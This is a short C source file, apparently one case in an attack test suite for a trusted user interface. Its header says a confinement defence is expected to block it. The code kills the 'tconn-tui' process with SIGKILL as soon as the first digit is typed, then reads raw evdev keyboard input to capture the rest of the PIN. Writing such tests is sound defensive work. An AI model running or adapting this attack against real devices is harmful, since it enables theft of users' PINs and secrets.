// SPDX-License-Identifier: Apache-2.0
/*
 * Kills the trusted user interface as the first digit is typed and reads the rest, which a
 * person types on before noticing.
 *
 * attack: kill_9
 * class: process
 * when: session
 * judge: keys
 * defence: confinement
 * why: SIGKILL: the session would end, the lamp with it, and the keys go back to the REE; the REE
 *      has no number for the process
 */
#include <signal.h>

#include "evdev.h"
#include "process.h"
#include "report.h"
#include "typing.h"

int main(void)
{
	char digits[256] = "";
	int fds[EVDEV_MAX];
	size_t count;
	pid_t pid;

	attack_init();
	count = evdev_open_keyboards(fds);
	attack_ready();
	pid = process_wait_tui();
	if (!pid)
		attack_failed("it sees no tconn-tui");
	if (!typing_wait(1) || kill(pid, SIGKILL))
		attack_failed("it could not be killed in time");
	while (!attack_stopping())
		if (evdev_collect(fds, count, 100, digits, sizeof(digits)))
			break;
	attack_digits(digits);
	attack_done();
}
